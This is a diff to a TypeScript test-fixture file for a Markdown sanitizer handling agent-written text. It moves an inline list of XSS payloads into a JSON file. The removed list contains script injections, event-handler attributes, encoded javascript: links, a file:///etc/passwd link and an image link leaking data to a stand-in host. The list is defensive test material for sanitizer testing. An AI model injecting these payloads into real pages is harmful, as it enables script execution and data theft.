@@ -1,4 +1,5 @@
 // Markdown as agents write it, with what it should become, and Markdown as an attacker has them write it.
+import hostile from "./hostile.json";
 
 /** Name: source, then the HTML it should be drawn as (classes and the like left out). */
 export const CONSTRUCTS: Record<string, [source: string, html: string]> = {
@@ -54,52 +55,5 @@ export const CONSTRUCTS: Record<string, [source: string, html: string]> = {
   escapes: ["\\*a\\* 1\\. b", "<p>*a* 1. b</p>"],
 };
 
-/** None of these may leave anything but text and links to http, https and mailto. */
-export const HOSTILE = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg onload=alert(1)>",
-  '<iframe src="https://evil.test/"></iframe>',
-  '<form action="https://evil.test/"><input name=a></form>',
-  "<style>*{display:none}</style>",
-  '<a href="javascript:alert(1)">x</a>',
-  '<base href="https://evil.test/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
-  '<link rel="stylesheet" href="https://evil.test/x.css">',
-  '<object data="https://evil.test/"></object>',
-  "<details open ontoggle=alert(1)>",
-  "<math><mi xlink:href='javascript:alert(1)'>x",
-  "[x](javascript:alert(1))",
-  "[x](JaVaScRiPt:alert(1))",
-  "[x](java\nscript:alert(1))",
-  "[x](java&#10;script:alert(1))",
-  "[x](javascript&colon;alert(1))",
-  "[x](&#106;avascript:alert(1))",
-  "[x](&#x6A;avascript:alert(1))",
-  "[x](\u0001javascript:alert(1))",
-  "[x](vbscript:msgbox(1))",
-  "[x](data:text/html,<script>alert(1)</script>)",
-  "[x](<javascript:alert(1)>)",
-  "[x](file:///etc/passwd)",
-  "[x](blob:https://evil.test/1)",
-  "[x](/w/other/)",
-  "[x](//evil.test/)",
-  "<javascript:alert(1)>",
-  "[x]: javascript:alert(1)\n\n[x]",
-  "![x](https://evil.test/?leak=secret)",
-  "![x](javascript:alert(1))",
-  '![x" onerror="alert(1)](https://evil.test/x.png)',
-  "![a](https://evil.test/1.png)![b][r]\n\n[r]: https://evil.test/2.png",
-  "[![x](https://evil.test/x.png)](javascript:alert(1))",
-  '[x](https://a.test/" onmouseover="alert(1))',
-  '[x](https://a.test "t\\" onclick=alert(1)")',
-  "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
-  "- <script>\n  alert(1)\n  </script>",
-  "```\n</code></pre><script>alert(1)</script>\n```",
-  "`<img src=x onerror=alert(1)>`",
-  "# <script>alert(1)</script>",
-  "&lt;script&gt;alert(1)&lt;/script&gt;",
-  "<!-- --><script>alert(1)</script>",
-  "<![CDATA[<script>alert(1)</script>]]>",
-  "x <b onmouseover=alert(1)>y</b>",
-];
+/** None of these may leave anything but text and links to http, https and mailto. Browsers get them, too. */
+export const HOSTILE: string[] = hostile;
